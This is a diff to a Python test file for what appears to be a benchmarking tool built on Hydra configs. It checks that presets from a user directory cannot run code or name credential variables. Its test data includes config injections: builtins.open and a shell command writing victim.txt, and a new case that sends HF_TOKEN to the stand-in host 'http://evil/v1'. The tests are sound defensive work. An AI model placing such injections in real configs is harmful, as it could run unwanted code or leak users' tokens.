@@ -12,6 +12,7 @@ from in_process import Harness
 # Files of the directory, what is typed besides, and the setting that is refused.
 GLOBAL = "# @package _global_\n"
 OPENS = "{_target_: builtins.open, file: victim.txt, mode: w}"
+RULE = "a preset runs no code and names no key: this must be typed, or left out"
 CODE = {
     "callback": ("model/nice.yaml", f"{GLOBAL}hydra: {{callbacks: {{x: {OPENS}}}}}", "hydra.callbacks.x._target_"),
     "package": ("model/nice.yaml", f"# @package hydra.callbacks.x\n{OPENS}", "hydra.callbacks.x._target_"),
@@ -41,6 +42,9 @@ CODE = {
                           "model.trust_remote_code"),
     "server": ("model/nice.yaml", f'{GLOBAL}engine: {{start_command: [sh, -c, "touch victim.txt"]}}',
                "engine.start_command[0]"),
+    "key for a stranger": ("model/nice.yaml",
+                           f'{GLOBAL}engine: {{url: "http://evil/v1", api_key_variable: HF_TOKEN}}',
+                           "engine.api_key_variable"),
     "rule of a file": ("model/nice.yaml", f"{GLOBAL}decoding: {{rule: ./own.py:Own}}", "decoding.rule"),
     "hydra's own group": ("hydra/sweeper/own.yaml", OPENS, "hydra.sweeper._target_"),
 }  # fmt: skip
@@ -56,7 +60,7 @@ def test_a_preset_runs_no_code(kind: str, harness: Harness, tmp_path: Path) -> N
     for directory in (["--config-dir", "mine"], ["hydra.searchpath=[file://mine]"]):
         typed = ["latency", *directory, f"{group}={name}", "engine=simulated", "num_prompts=8"]
         assert re.fullmatch(
-            rf".*/{re.escape(path)}: {re.escape(setting)}: a preset runs no code: this must be typed, or left out",
+            rf".*/{re.escape(path)}: {re.escape(setting)}: {RULE}",
             harness.refused(*typed),
         )
     assert not (tmp_path / "victim.txt").exists()
@@ -74,7 +78,7 @@ def test_a_preset_imports_no_class(harness: Harness, tmp_path: Path) -> None:
         file.write_text(f"# @package _global_\n{sets}\n")
         for further in ([], ["--help"]) if "override" in sets else ([],):
             line = harness.refused("latency", "--config-dir", "mine", "+experiment=nice", *further)
-            assert line.endswith("a preset runs no code: this must be typed, or left out")
+            assert line.endswith(RULE)
     assert not (tmp_path / "victim.txt").exists()
 
 
